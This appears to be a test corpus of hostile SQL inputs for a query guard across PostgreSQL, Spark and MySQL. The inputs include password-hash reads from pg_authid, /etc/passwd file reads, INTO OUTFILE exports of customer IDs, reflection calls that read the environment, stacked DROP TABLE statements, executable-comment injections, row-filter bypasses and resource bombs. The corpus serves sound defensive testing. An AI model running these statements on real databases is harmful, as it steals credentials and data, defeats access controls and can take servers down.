SELECT schema_to_xml('public', TRUE, FALSE, '') AS x LIMIT 1
SELECT to_json(c) AS x FROM customer AS c LIMIT 5
SELECT row_to_json(p) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT (p).product_id FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT CAST(c AS TEXT) AS x FROM customer AS c LIMIT 5
SELECT JSON_AGG(p) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT ARRAY(SELECT id_no FROM customer) AS x LIMIT 1
SELECT p.row_to_json AS x FROM (SELECT product_id FROM product) AS p LIMIT 5

-- category: system catalogs
SELECT c.relname FROM (SELECT relname FROM pg_catalog.pg_class) AS c LIMIT 5
SELECT relname FROM pg_class LIMIT 5
SELECT c.column_name FROM (SELECT column_name FROM information_schema.columns) AS c LIMIT 5
SELECT s.usename FROM (SELECT usename FROM pg_stat_activity) AS s LIMIT 5
SELECT s.most_common_vals FROM (SELECT most_common_vals FROM pg_stats) AS s LIMIT 5
SELECT p.prosrc FROM (SELECT prosrc FROM pg_proc) AS p LIMIT 5
SELECT CAST('customer' AS REGCLASS) AS x LIMIT 1
SELECT 'customer'::regclass::oid AS x LIMIT 1
SELECT pg_get_viewdef('pg_tables') AS x LIMIT 1
SELECT c.x FROM (SELECT ctid AS x FROM customer) AS c LIMIT 5
SELECT c.x FROM (SELECT tableoid AS x FROM customer) AS c LIMIT 5
SELECT pg_relation_filepath('customer') AS x LIMIT 1

-- category: secrets and environment
SELECT a.rolpassword FROM (SELECT rolpassword FROM pg_authid) AS a LIMIT 5
SELECT s.passwd FROM pg_shadow AS s LIMIT 5
SELECT current_setting('data_directory') AS x LIMIT 1
SELECT set_config('statement_timeout', '0', FALSE) AS x LIMIT 1
SELECT s.setting FROM (SELECT setting FROM pg_settings) AS s LIMIT 5
SELECT h.line_number FROM pg_hba_file_rules AS h LIMIT 5
SELECT inet_server_addr() AS x LIMIT 1
SELECT version() AS x LIMIT 1
SELECT current_user AS who LIMIT 1
SELECT session_user AS who LIMIT 1
SELECT current_catalog AS x LIMIT 1
SELECT pg_backend_pid() AS x LIMIT 1
SELECT pg_postmaster_start_time() AS x LIMIT 1
SELECT CURRENT_TIMESTAMP AS x LIMIT 1

-- category: sleeping and locking
SELECT pg_sleep(0.01) AS x LIMIT 1
SELECT CAST(pg_sleep(0.01) AS TEXT) AS x LIMIT 1
SELECT pg_sleep_for('1 millisecond') AS x LIMIT 1
SELECT pg_sleep_until(NOW()) AS x LIMIT 1
SELECT pg_advisory_lock(1) AS x LIMIT 1
SELECT pg_try_advisory_lock(1) AS x LIMIT 1
SELECT pg_advisory_xact_lock(1) AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product FOR UPDATE) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 FOR UPDATE
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 FOR SHARE NOWAIT
SELECT p.product_id FROM (SELECT product_id FROM product FOR KEY SHARE SKIP LOCKED) AS p LIMIT 5
SELECT CASE WHEN p.product_id = 1 THEN pg_sleep(0.01) END AS x FROM (SELECT product_id FROM product) AS p LIMIT 5

-- category: chance and side effects
SELECT RANDOM() AS x LIMIT 1
SELECT gen_random_uuid() AS x LIMIT 1
SELECT nextval('numbers') AS x LIMIT 1
SELECT setval('numbers', 9) AS x LIMIT 1
SELECT pg_notify('news', 'x') AS x LIMIT 1
SELECT lo_create(0) AS x LIMIT 1
SELECT txid_current() AS x LIMIT 1
SELECT pg_stat_reset() AS x LIMIT 1
SELECT pg_terminate_backend(0) AS x LIMIT 1
SELECT pg_reload_conf() AS x LIMIT 1
SELECT pg_logical_emit_message(FALSE, 'a', 'b') AS x LIMIT 1

-- category: dialect tricks
SELECT E'a\'b' AS x LIMIT 1
SELECT U&'d\0061ta' AS x LIMIT 1
SELECT U&"id\005fno" FROM customer LIMIT 5
SELECT $$a$$ AS x LIMIT 1
SELECT $a$ $$ $a$ AS x LIMIT 1
SELECT B'101' AS x LIMIT 1
SELECT X'1F' AS x LIMIT 1
SELECT N'a' AS x LIMIT 1
SELECT p.product_id /* a /* b */ c */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT/**/id_no/**/FROM/**/customer/**/LIMIT/**/5
SELECT 1 OPERATOR(pg_catalog.+) 2 AS x LIMIT 1
SELECT p.product_name COLLATE "C" AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT |/ 4 AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product WHERE product_name ~ 'a') AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p WHERE p.product_id BETWEEN SYMMETRIC 2 AND 1 LIMIT 5
SELECT c."Customer_Name" FROM (SELECT "Customer_Name" FROM customer) AS c LIMIT 5
SELECT c.customer_name FROM (SELECT "Customer_Name" AS customer_name FROM customer) AS c LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM "Product") AS p LIMIT 5
SELECT b.balance FROM (SELECT balance FROM "dw.loan") AS b LIMIT 5
SELECT p.product_id AS a1234567890123456789012345678901234567890123456789012345678901234567890 FROM (SELECT product_id FROM product) AS p LIMIT 5

-- category: forms of PostgreSQL
TABLE customer
SELECT p.* FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT DISTINCT ON (p.product_line) p.product_id FROM (SELECT product_id, product_line FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p ORDER BY p.product_id FETCH FIRST 5 ROWS WITH TIES
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT ALL
SELECT p.product_line, COUNT(*) AS n FROM (SELECT product_line FROM product) AS p GROUP BY ROLLUP (p.product_line) LIMIT 5
SELECT STRING_AGG(p.product_name, ',') AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT ARRAY_AGG(p.product_name) AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT p.product_id FROM product AS p TABLESAMPLE BERNOULLI (50) LIMIT 5
SELECT p.product_id FROM ONLY product AS p LIMIT 5
SELECT p.product_id = ANY (ARRAY[1, 2]) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5

-- category: row-filter escapes
SELECT s.balance FROM (SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} OR TRUE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE "BRANCH_ID" IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM "Branch" WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT "BRANCH_ID" FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM public.branch)) AS s LIMIT 5
WITH branch AS (SELECT 2 AS branch_id, '华东区' AS region_name) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LEFT JOIN LATERAL (SELECT l.balance FROM loan_snapshot AS l WHERE l.product_id = p.product_id) AS x ON TRUE LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p FULL JOIN (SELECT product_id FROM loan_snapshot) AS l ON l.product_id = p.product_id LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} INTERSECT SELECT balance FROM loan_snapshot) AS s LIMIT 5

-- category: resource bombs
WITH c0 AS (SELECT 'xxxxxxxx' AS s), c1 AS (SELECT s || s AS s FROM c0), c2 AS (SELECT s || s AS s FROM c1), c3 AS (SELECT s || s AS s FROM c2), c4 AS (SELECT s || s AS s FROM c3), c5 AS (SELECT s || s AS s FROM c4), c6 AS (SELECT s || s AS s FROM c5), c7 AS (SELECT s || s AS s FROM c6), c8 AS (SELECT s || s AS s FROM c7), c9 AS (SELECT s || s AS s FROM c8), c10 AS (SELECT s || s AS s FROM c9), c11 AS (SELECT s || s AS s FROM c10), c12 AS (SELECT s || s AS s FROM c11), c13 AS (SELECT s || s AS s FROM c12), c14 AS (SELECT s || s AS s FROM c13), c15 AS (SELECT s || s AS s FROM c14) SELECT LENGTH(s) AS n FROM c15 LIMIT 1
SELECT COUNT(*) AS n FROM generate_series(1, 1000000) AS g LIMIT 1
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000) SELECT n.i FROM n LIMIT 5
SELECT REPEAT('x', 1000000) AS x LIMIT 1
SELECT LPAD('x', 1000000) AS x LIMIT 1
SELECT FACTORIAL(500) AS x LIMIT 1
SELECT 9 ^ 9 ^ 3 AS x LIMIT 1
SELECT 'aaaaaaaaaaaaaaaa' ~ '(a+)+b' AS x LIMIT 1
SELECT REGEXP_REPLACE('aaaa', '(a+)+b', 'x') AS x LIMIT 1
SELECT a.product_id FROM (SELECT product_id FROM product) AS a, (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON TRUE LIMIT 5

-- engine: spark

-- category: writing CTEs
WITH p AS (SELECT * FROM product) INSERT INTO product SELECT * FROM p
WITH p AS (SELECT * FROM product) FROM p INSERT INTO product SELECT *

-- category: SELECT INTO and CREATE AS
CREATE TABLE copied USING parquet AS SELECT * FROM customer
CREATE TEMPORARY VIEW copied AS SELECT id_no FROM customer
CREATE GLOBAL TEMPORARY VIEW copied AS SELECT id_no FROM customer
INSERT OVERWRITE DIRECTORY '{folder}/stolen' USING csv SELECT id_no FROM customer

-- category: stacked statements
BEGIN SELECT 1; SELECT id_no FROM customer; END
-- cannot run: Spark takes one statement at a time outside BEGIN and END
SELECT 1 AS x LIMIT 1; DROP TABLE product

-- category: commands
SET spark.sql.shuffle.partitions = 1
SET -v
RESET spark.sql.shuffle.partitions
ADD JAR '{folder}/held.csv'
ADD FILE '{folder}/held.csv'
LIST JARS
CACHE TABLE held AS SELECT id_no FROM customer
UNCACHE TABLE IF EXISTS held
CLEAR CACHE
REFRESH TABLE product
ANALYZE TABLE product COMPUTE STATISTICS
DESCRIBE EXTENDED customer
SHOW TABLES
SHOW CREATE TABLE customer
EXPLAIN EXTENDED SELECT id_no FROM customer
USE default
CREATE TEMPORARY FUNCTION leak AS 'java.lang.String'
EXECUTE IMMEDIATE 'SELECT id_no FROM customer'
DECLARE VARIABLE hidden INT DEFAULT 1
CREATE TEMPORARY VIEW words USING csv OPTIONS (path '/etc/passwd')
-- cannot run: only for tables of Hive
LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE product

-- category: files and the network
SELECT * FROM csv.`/etc/passwd` LIMIT 5
SELECT t.value FROM text.`/etc/passwd` AS t LIMIT 5
SELECT t.value FROM (SELECT value FROM text.`/etc/passwd`) AS t LIMIT 5
SELECT t.content FROM binaryFile.`/etc/hosts` AS t LIMIT 5
SELECT t.a FROM parquet.`{folder}/held.parquet` AS t LIMIT 5
SELECT t.a FROM json.`{folder}/held.json` AS t LIMIT 5
SELECT input_file_name() AS x FROM product LIMIT 5
SELECT p.x FROM (SELECT _metadata.file_path AS x FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p WHERE EXISTS(SELECT 1 FROM text.`/etc/passwd`) LIMIT 5

-- category: table functions
SELECT r.id FROM range(100) AS r LIMIT 5
SELECT EXPLODE(SEQUENCE(1, 100)) AS x LIMIT 5
SELECT t.x FROM (SELECT 1 AS a) AS p LATERAL VIEW EXPLODE(ARRAY(1, 2)) t AS x LIMIT 5
SELECT STACK(2, 1, 2) AS x LIMIT 5
SELECT e.col FROM EXPLODE(ARRAY(1, 2)) AS e LIMIT 5
SELECT INLINE(ARRAY(STRUCT(1, 'a'))) LIMIT 5
SELECT POSEXPLODE(ARRAY(1, 2)) LIMIT 5
SELECT JSON_TUPLE('{"a": 1}', 'a') AS x LIMIT 5
SELECT e.pos FROM POSEXPLODE(ARRAY(1, 2)) AS e LIMIT 5
SELECT TRANSFORM(product_id) USING 'cat' AS (x) FROM product LIMIT 5

-- category: hidden SQL
SELECT reflect('java.lang.System', 'getProperty', 'user.home') AS x LIMIT 1
SELECT java_method('java.lang.System', 'getenv', 'PATH') AS x LIMIT 1
SELECT try_reflect('java.lang.System', 'getProperty', 'user.home') AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product WHERE reflect('java.lang.System', 'lineSeparator') <> 'x') AS p LIMIT 5
SELECT IDENTIFIER('id_no') FROM customer LIMIT 5
SELECT c.id_no FROM IDENTIFIER('customer') AS c LIMIT 5
FROM customer |> SELECT id_no |> LIMIT 5
FROM customer SELECT id_no LIMIT 5
SELECT c.id_no FROM (TABLE customer) AS c LIMIT 5
SELECT STRUCT(*) AS x FROM customer LIMIT 5
SELECT STRUCT(c.*) AS x FROM customer AS c LIMIT 5
SELECT XPATH_STRING('<a>b</a>', 'a') AS x LIMIT 1

-- category: system catalogs
SELECT current_catalog() AS x LIMIT 1
SELECT current_database() AS x LIMIT 1
SELECT current_schema() AS x LIMIT 1
SHOW DATABASES
SHOW COLUMNS IN customer
SHOW FUNCTIONS
DESCRIBE FUNCTION EXTENDED sum

-- category: secrets and environment
SELECT '${env:PATH}' AS x LIMIT 1
SELECT '${system:user.home}' AS x LIMIT 1
SELECT '${spark.app.name}' AS x LIMIT 1
SELECT 1 AS `${env:PATH}` LIMIT 1
SELECT ${spark.sql.shuffle.partitions} AS x LIMIT 1
SELECT 1 AS x /* ${env:PATH} */ LIMIT 1
SELECT current_user() AS x LIMIT 1
SELECT session_user() AS x LIMIT 1
SELECT version() AS x LIMIT 1
SELECT current_timezone() AS x LIMIT 1
SELECT current_date AS x LIMIT 1
SET spark.app.name

-- category: sleeping and locking
SELECT java_method('java.lang.Thread', 'sleep', 1L) AS x LIMIT 1
SELECT reflect('java.lang.Thread', 'yield') AS x LIMIT 1

-- category: chance and side effects
SELECT RAND() AS x LIMIT 1
SELECT UUID() AS x LIMIT 1
SELECT monotonically_increasing_id() AS x FROM product LIMIT 5
SELECT spark_partition_id() AS x FROM product LIMIT 5
SELECT assert_true(TRUE) AS x LIMIT 1
SELECT raise_error('x') AS x FROM product WHERE FALSE LIMIT 1

-- category: dialect tricks
SELECT /*+ REPARTITION(1000) */ p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT /*+ BROADCAST(p) */ p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT r'a\' AS x LIMIT 1
SELECT X'1F' AS x LIMIT 1
SELECT 1Y AS x, 2S AS y LIMIT 1 -- /* ${env:PATH} */
SELECT `id_no` FROM `customer` LIMIT 5
SELECT c.`ID_NO` FROM (SELECT `ID_NO` FROM Customer) AS c LIMIT 5
SELECT p.`product_ıd` FROM (SELECT product_id AS `product_ıd` FROM product) AS p LIMIT 5
SELECT p.x FROM (SELECT product_id AS `K` FROM product) AS p(x) LIMIT 5
SELECT/**/id_no/**/FROM/**/customer/**/LIMIT/**/5
SELECT p.product_id /* a /* b */ c */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT DATE'2024-01-01' - INTERVAL '1-2' YEAR TO MONTH AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product) AS p WHERE p.product_id RLIKE '1' LIMIT 5

-- category: forms of Spark
SELECT p.product_id FROM (SELECT product_id FROM product) AS p DISTRIBUTE BY p.product_id LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p CLUSTER BY p.product_id LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p SORT BY p.product_id LIMIT 5
SELECT p.product_id FROM product TABLESAMPLE (50 PERCENT) AS p LIMIT 5
SELECT * EXCEPT (id_no) FROM customer LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a LEFT SEMI JOIN (SELECT product_id FROM product) AS b ON a.product_id = b.product_id LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a LEFT ANTI JOIN (SELECT product_id FROM product) AS b ON a.product_id = b.product_id LIMIT 5
SELECT COLLECT_LIST(p.product_id) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT MAP('a', 1)['a'] AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product) AS p GROUP BY ALL LIMIT 5

-- category: row-filter escapes
SELECT s.balance FROM (SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} OR TRUE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ("华东区", "华南区"))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE 'a\' = \'' <> '' OR FALSE AND {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot MINUS SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH branch AS (SELECT 2 AS branch_id, '华东区' AS region_name) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5

-- category: resource bombs
WITH c0 AS (SELECT 'xxxxxxxx' AS s), c1 AS (SELECT CONCAT(s, s, s, s) AS s FROM c0), c2 AS (SELECT CONCAT(s, s, s, s) AS s FROM c1), c3 AS (SELECT CONCAT(s, s, s, s) AS s FROM c2), c4 AS (SELECT CONCAT(s, s, s, s) AS s FROM c3), c5 AS (SELECT CONCAT(s, s, s, s) AS s FROM c4), c6 AS (SELECT CONCAT(s, s, s, s) AS s FROM c5), c7 AS (SELECT CONCAT(s, s, s, s) AS s FROM c6) SELECT LENGTH(s) AS n FROM c7 LIMIT 1
SELECT SEQUENCE(1, 100000) AS x LIMIT 1
SELECT SIZE(ARRAY_REPEAT('x', 100000)) AS x LIMIT 1
SELECT COUNT(*) AS n FROM range(1000000) LIMIT 1
SELECT EXPLODE(ARRAY_REPEAT(1, 100000)) AS x LIMIT 5
SELECT REPEAT('x', 1000000) AS x LIMIT 1
SELECT AGGREGATE(SEQUENCE(1, 1000), 0, (a, x) -> a + x) AS x LIMIT 1
SELECT LPAD('x', 1000000, 'y') AS x LIMIT 1
SELECT p.product_line, COUNT(*) AS n FROM (SELECT product_line, product_id FROM product) AS p GROUP BY p.product_line, p.product_id WITH CUBE LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT product_id FROM product) AS b LIMIT 5

-- engine: mysql

-- category: writing CTEs
-- cannot run: MariaDB has no WITH before what writes
WITH p AS (SELECT product_id FROM product) DELETE FROM product WHERE product_id IN (SELECT product_id FROM p)
INSERT INTO product WITH p AS (SELECT product_id, product_name, product_line FROM product) SELECT * FROM p

-- category: SELECT INTO and CREATE AS
SELECT id_no INTO OUTFILE '../stolen_1' FROM customer
SELECT id_no FROM customer INTO OUTFILE '../stolen_2'
SELECT id_no FROM customer LIMIT 1 INTO DUMPFILE '../stolen_3'
SELECT id_no FROM customer LIMIT 1 INTO @stolen
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 1 INTO @stolen
CREATE TABLE copied AS SELECT * FROM customer
CREATE TEMPORARY TABLE copied_2 SELECT id_no FROM customer

-- category: comments that are run
SELECT p.product_id /*! , (SELECT MAX(id_no) FROM customer) AS id_no */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id /*M! , (SELECT MAX(id_no) FROM customer) AS id_no */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id /*!50000 , (SELECT MAX(id_no) FROM customer) AS id_no */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product /*! UNION SELECT id_no FROM customer */) AS p LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} /*! OR 1 = 1 */) AS s LIMIT 5

-- category: commands
SET @a = 1
SHOW TABLES
DESCRIBE customer
HANDLER customer OPEN
DO SLEEP(0)
FLUSH STATUS
SET STATEMENT max_statement_time = 1 FOR SELECT id_no FROM customer

-- category: variables and functions of the server
SELECT @@version AS x LIMIT 1
SELECT @a AS x LIMIT 1
SELECT LOAD_FILE('/etc/hostname') AS x LIMIT 1
SELECT SLEEP(0) AS x LIMIT 1
SELECT BENCHMARK(1, 1) AS x LIMIT 1
SELECT GET_LOCK('x', 0) AS x LIMIT 1
SELECT USER() AS x LIMIT 1
SELECT DATABASE() AS x LIMIT 1
SELECT UUID() AS x LIMIT 1
SELECT RAND() AS x LIMIT 1

-- category: tables that nobody granted
SELECT s.id_no FROM (SELECT id_no FROM customer) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM deposit_snapshot) AS s LIMIT 5
SELECT s.table_name FROM (SELECT table_name FROM information_schema.tables) AS s LIMIT 5
SELECT s.User FROM (SELECT User FROM mysql.user) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} OR 1) AS s LIMIT 5
SELECT balance FROM loan_snapshot PROCEDURE ANALYSE()

-- category: resource bombs
SELECT REPEAT('x', 1000000) AS x LIMIT 1
SELECT LPAD('x', 1000000, 'y') AS x LIMIT 1
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000) SELECT n.i FROM n LIMIT 5
SELECT 'aaaa' REGEXP '(a+)+b' AS x LIMIT 1
